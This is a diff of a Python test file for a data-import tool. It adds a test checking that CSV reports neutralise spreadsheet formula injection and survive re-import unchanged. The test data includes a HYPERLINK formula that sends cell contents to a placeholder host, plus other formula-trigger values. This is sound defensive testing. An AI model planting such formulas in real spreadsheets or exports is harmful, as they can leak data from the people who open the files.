@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import signal
 from dataclasses import replace
@@ -40,8 +41,11 @@ def folder(context: Context, tmp_path: Path) -> Path:
 def workbook(*rows: list[str]) -> bytes:
     """An Excel workbook with these rows."""
     book, file = Workbook(), io.BytesIO()
-    for row in rows:
-        book.active.append(row)
+    for texts in rows:
+        book.active.append(texts)
+    for row in book.active.iter_rows():
+        for cell in row:
+            cell.data_type = "s"  # a text, be it one that begins with =
     book.save(file)
     return file.getvalue()
 
@@ -128,6 +132,21 @@ def test_bad_rows_are_listed_up_to_one_that_is_too_long_for_a_page(store: Store,
     place = report.place(uploads.place(folder, id_))
     place.write_text(place.read_text("utf-8").replace("x" * 9_999, "x" * 200_000), "utf-8")
     assert len(uploads.bad_rows(folder, id_, 50)) == 1
+
+
+def test_excel_reckons_nothing_in_a_report_and_an_import_reads_it_as_it_was(store: Store, folder: Path) -> None:
+    odd = [*WRONG[:2], "-15600", *WRONG[3:], '=HYPERLINK("http://x.example/"&A1)', "@SUM(1)"]
+    id_ = sent_in(store, folder, workbook([*HEADER.strip().split(","), "=1+1", "note"], odd))
+    work.take_in(str(id_))
+    first = report.place(uploads.place(folder, id_)).read_text("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(first)) for cell in row]
+    assert "'-15600" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    with store.transaction() as connection:
+        connection.execute(text("DELETE FROM members"))
+    again = sent_in(store, folder, first)
+    work.take_in(str(again))
+    assert report.place(uploads.place(folder, again)).read_text("utf-8-sig") == first
 
 
 def test_good_rows_are_loaded_without_the_bad_ones_if_that_is_wanted(store: Store, folder: Path) -> None:
